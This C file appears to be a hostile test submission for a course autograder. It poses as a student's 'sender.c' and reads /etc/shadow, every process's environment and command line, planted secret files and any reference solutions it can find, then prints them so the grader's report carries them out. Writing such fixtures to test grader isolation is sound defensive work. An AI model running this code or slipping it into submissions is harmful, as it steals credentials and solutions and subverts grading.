/* SPDX-License-Identifier: MIT */
/*
 * reader.c - a hostile "sender.c": it reads what it should not and
 * prints it, so that the grader's report carries it out.
 *
 * What it tries: it prints, on stdout and on stderr, each line "read
 * PATH: " and the first 2 KiB of PATH, for: /var/tmp/lab3-hostile.secret
 * (the token tests/long plants), /tmp/grade-secret and every file under
 * /tmp (4 levels) whose name holds "secret", /etc/shadow,
 * /root/.lab3-secret, /proc/1/environ and every /proc/PID/environ and
 * /proc/PID/cmdline it can read (the grader's environment and command
 * lines), and the reference solution: every sender.c under /autograder,
 * /work, /root, /home, /srv, /opt and / (6 levels below each, 200000
 * entries each, 10 s in all; not /proc or /sys).  It exits 0 and never
 * prints a key.
 *
 * What the grader must do: let the sender see none of it (another user,
 * a mount namespace without the secret, the checkout or the reference, a
 * PID namespace of its own), and put in its report only what it wrote
 * itself, bounded, never the sender's output as it came.  Score 0, and
 * the token in /var/tmp/lab3-hostile.secret appears nowhere in the
 * grader's output or files.
 *
 * Bounds: 2 KiB of each file, twice; at most 200 sender.c files and 200
 * secret files; opens are O_NONBLOCK and only regular files (and /proc's)
 * are read; whole run under about 12 s.
 *
 * Compiles alone (cc ... -lcrypto) and as the kit's sender.c: every name
 * but main() is static, and it uses no RDMA.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define SHOW_BYTES 2048
#define MAX_FOUND 200

/* ---- A bounded walk ---- */

struct walk {
	int max_depth;		/* levels of entries below the root */
	long entries, max_entries;
	double deadline;	/* CLOCK_MONOTONIC seconds */
	void (*visit)(const char *path, const char *name,
		      const struct stat *st);
};

/* now: CLOCK_MONOTONIC in seconds. */
static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* walk_dir: visit every entry under DIR (DEPTH levels down already),
 * following no symbolic link and skipping /proc and /sys, until W's
 * bounds are reached. */
static void walk_dir(struct walk *w, const char *dir, int depth)
{
	char path[PATH_MAX];
	struct dirent *e;
	struct stat st;
	size_t len = strlen(dir);
	DIR *d;

	if (depth >= w->max_depth || strcmp(dir, "/proc") == 0 ||
	    strcmp(dir, "/sys") == 0)
		return;
	d = opendir(dir);
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (w->entries >= w->max_entries || now() > w->deadline)
			break;
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		w->entries++;
		if (snprintf(path, sizeof(path), "%s%s%s", dir,
			     len > 0 && dir[len - 1] == '/' ? "" : "/",
			     e->d_name) >= (int)sizeof(path) ||
		    lstat(path, &st) != 0)
			continue;
		w->visit(path, e->d_name, &st);
		if (S_ISDIR(st.st_mode))
			walk_dir(w, path, depth + 1);
	}
	closedir(d);
}

/* ---- Reading and telling ---- */

/* show: "read PATH: " and the first SHOW_BYTES of PATH (NULs as
 * spaces), on stdout and on stderr; LOUD: say so on stderr if it cannot
 * be read. */
static void show(const char *path, int loud)
{
	char buf[SHOW_BYTES];
	size_t len = 0;
	struct stat st;
	ssize_t n;
	int fd, i;

	fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
		if (loud)
			fprintf(stderr, "reader: cannot read %s: %s\n", path,
				fd < 0 ? strerror(errno) : "not a file");
		if (fd >= 0)
			close(fd);
		return;
	}
	while (len < sizeof(buf) &&
	       (n = read(fd, buf + len, sizeof(buf) - len)) > 0)
		len += (size_t)n;
	close(fd);
	for (i = 0; i < (int)len; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	for (i = 0; i < 2; i++) {
		FILE *f = i == 0 ? stdout : stderr;

		fprintf(f, "read %s: ", path);
		fwrite(buf, 1, len, f);
		if (len == 0 || buf[len - 1] != '\n')
			fputc('\n', f);
		fflush(f);
	}
}

/* ---- What the walks find ---- */

static char *secrets[MAX_FOUND], *sources[MAX_FOUND];
static int n_secrets, n_sources;
static struct {
	dev_t dev;
	ino_t ino;
} seen[MAX_FOUND];

/* visit_tmp: a walk's visit under /tmp: files named like a secret. */
static void visit_tmp(const char *path, const char *name,
		      const struct stat *st)
{
	if (S_ISREG(st->st_mode) && strstr(name, "secret") != NULL &&
	    n_secrets < MAX_FOUND && (secrets[n_secrets] = strdup(path)))
		n_secrets++;
}

/* visit_root: a walk's visit: each sender.c, once (by device and inode:
 * the roots overlap). */
static void visit_root(const char *path, const char *name,
		       const struct stat *st)
{
	int i;

	if (!S_ISREG(st->st_mode) || strcmp(name, "sender.c") != 0 ||
	    n_sources >= MAX_FOUND)
		return;
	for (i = 0; i < n_sources; i++)
		if (seen[i].dev == st->st_dev && seen[i].ino == st->st_ino)
			return;
	if ((sources[n_sources] = strdup(path)) == NULL)
		return;
	seen[n_sources].dev = st->st_dev;
	seen[n_sources].ino = st->st_ino;
	n_sources++;
}

/* every_process: /proc/1/environ first, then every environ and cmdline. */
static void every_process(void)
{
	char path[64];
	struct dirent *p;
	DIR *proc;

	show("/proc/1/environ", 1);
	proc = opendir("/proc");
	if (proc == NULL)
		return;
	while ((p = readdir(proc)) != NULL) {
		char *end;
		long pid = strtol(p->d_name, &end, 10);

		if (*end != '\0' || pid <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
		show(path, 0);
		snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
		show(path, 0);
	}
	closedir(proc);
}

int main(int argc, char **argv)
{
	static const char *const roots[] = {
		"/autograder", "/work", "/root", "/home", "/srv", "/opt", "/",
	};
	double deadline = now() + 10;
	struct walk w = {
		.max_depth = 4, .max_entries = 200000, .deadline = deadline,
		.visit = visit_tmp,
	};
	size_t r;
	int c, i;

	opterr = 0;	/* the reference's options, and any other, ignored */
	while ((c = getopt(argc, argv, "i:t:n:w:s:o:l:qvjh")) != -1)
		;
	show("/var/tmp/lab3-hostile.secret", 1);
	show("/tmp/grade-secret", 1);
	walk_dir(&w, "/tmp", 0);
	for (i = 0; i < n_secrets; i++)
		if (strcmp(secrets[i], "/tmp/grade-secret") != 0)
			show(secrets[i], 1);
	show("/etc/shadow", 1);
	show("/root/.lab3-secret", 1);
	every_process();
	for (r = 0; r < sizeof(roots) / sizeof(roots[0]); r++) {
		struct walk s = {
			.max_depth = 6, .max_entries = 200000,
			.deadline = deadline, .visit = visit_root,
		};

		walk_dir(&s, roots[r], 0);
	}
	for (i = 0; i < n_sources; i++)
		show(sources[i], 1);
	fprintf(stderr, "reader: %d secret files, %d sender.c files\n",
		n_secrets, n_sources);
	return 0;
}
